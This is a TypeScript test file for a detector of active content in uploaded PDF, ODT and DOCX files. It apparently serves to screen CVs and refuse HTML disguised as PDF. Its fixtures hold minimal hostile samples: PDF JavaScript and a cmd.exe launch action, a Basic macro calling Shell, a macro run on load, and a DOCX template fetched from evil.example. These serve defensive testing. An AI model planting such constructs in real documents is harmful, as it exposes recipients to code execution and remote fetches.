import { deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { activeContent } from './active-content.ts';
import { documentType } from './file-content.ts';
import { docx, odt, pdf, storedZip } from '../../test/fixtures/files.ts';

const encode = (text: string) => new TextEncoder().encode(text);

/** A zip whose entries are deflated, as Word and LibreOffice write them. */
function deflatedZip(entries: { name: string; data: string; stored?: boolean }[]): Uint8Array {
  const le = (v: number, n: number) => Array.from({ length: n }, (_, i) => (v >>> (8 * i)) & 0xff);
  const local: number[] = [];
  const central: number[] = [];
  for (const entry of entries) {
    const name = [...encode(entry.name)];
    const method = entry.stored ? 0 : 8;
    const data = entry.stored ? [...encode(entry.data)] : [...deflateRawSync(encode(entry.data))];
    const offset = local.length;
    local.push(
      0x50,
      0x4b,
      3,
      4,
      ...le(20, 2),
      ...le(0, 2),
      ...le(method, 2),
      ...le(0, 4),
      ...le(0, 4),
      ...le(data.length, 4),
      ...le(entry.data.length, 4),
      ...le(name.length, 2),
      ...le(0, 2),
      ...name,
      ...data,
    );
    central.push(
      0x50,
      0x4b,
      1,
      2,
      ...le(20, 2),
      ...le(20, 2),
      ...le(0, 2),
      ...le(method, 2),
      ...le(0, 4),
      ...le(0, 4),
      ...le(data.length, 4),
      ...le(entry.data.length, 4),
      ...le(name.length, 2),
      ...le(0, 2),
      ...le(0, 2),
      ...le(0, 2),
      ...le(0, 2),
      ...le(0, 4),
      ...le(offset, 4),
      ...name,
    );
  }
  return new Uint8Array([...local, ...central, 0x50, 0x4b, 5, 6, ...le(0, 4), ...le(entries.length, 2), ...le(entries.length, 2), ...le(central.length, 4), ...le(local.length, 4), ...le(0, 2)]);
}

function pdfWithStream(content: Uint8Array): Uint8Array {
  const head = encode(`%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode /Length ${content.length} >>\nstream\n`);
  const tail = encode('\nendstream\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n');
  return new Uint8Array([...head, ...content, ...tail]);
}

const rels = (target: string, type: string, external = true) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`;

describe('activeContent', () => {
  it.each<[string, Uint8Array, string | null]>([
    ['a plain PDF', pdf(), null],
    ['a PDF that runs JavaScript on opening', pdf('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'), 'active content'],
    ['a PDF that launches a program', pdf('<< /Type /Action /S /Launch /F (cmd.exe) >>'), 'active content'],
    ['a PDF hiding its name as /J#61vaScript', pdf('<< /S /J#61vaScript /JS (x) >>'), 'active content'],
    ['a PDF with an embedded file', pdf('<< /Names << /EmbeddedFiles 2 0 R >> >>'), 'active content'],
    ['a PDF with JavaScript inside a compressed object stream', pdfWithStream(deflateSync(encode('<< /S /JavaScript /JS (app.launchURL("x")) >>'))), 'active content in a compressed stream'],
    ['a PDF whose compressed stream is only a page', pdfWithStream(deflateSync(encode('BT /F1 12 Tf (CV de Marie) Tj ET'))), null],
    ['an ODT', odt(), null],
    [
      'an ODT with a Basic macro library',
      storedZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' },
        { name: 'content.xml', data: '<office:document-content/>' },
        { name: 'Basic/Standard/Module1.xml', data: 'Sub Main\nShell("calc")\nEnd Sub' },
      ]),
      'macros',
    ],
    [
      'an ODT whose content runs a macro on opening (deflated)',
      deflatedZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
        {
          name: 'content.xml',
          data: '<office:document-content><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:document-content>',
        },
      ]),
      'macros run by events',
    ],
    ['a DOCX', docx(), null],
    [
      'a DOCX with a hyperlink to a web page',
      storedZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'word/document.xml', data: '<w:document/>' },
        { name: 'word/_rels/document.xml.rels', data: rels('https://www.linkedin.com/in/marie', 'hyperlink') },
      ]),
      null,
    ],
    [
      'a DOCX whose template comes from a stranger’s server (deflated)',
      deflatedZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'word/document.xml', data: '<w:document/>' },
        { name: 'word/_rels/settings.xml.rels', data: rels('https://evil.example/template.dotm', 'attachedTemplate') },
      ]),
      'a template or object fetched from outside',
    ],
  ])('%s', async (_what, bytes, threat) => {
    const type = documentType(bytes);
    expect(type).not.toBeNull();
    expect(await activeContent(bytes, type ?? 'pdf')).toBe(threat);
  });
});

describe('documentType: a PDF is a PDF throughout', () => {
  it.each<[string, string]>([
    ['an HTML page wearing %PDF and %%EOF', '%PDF-1.4\n<html><body><script>fetch("/")</script></body></html>\n%%EOF\n'],
    ['a PDF header and trailer around a web page with objects', '%PDF-1.4\n1 0 obj << >> endobj\n<!DOCTYPE html><html><script>x</script>\nstartxref\n9\n%%EOF\n'],
    ['a PDF without a cross-reference', '%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n'],
  ])('%s is refused', (_what, text) => {
    expect(documentType(encode(text))).toBeNull();
  });
});
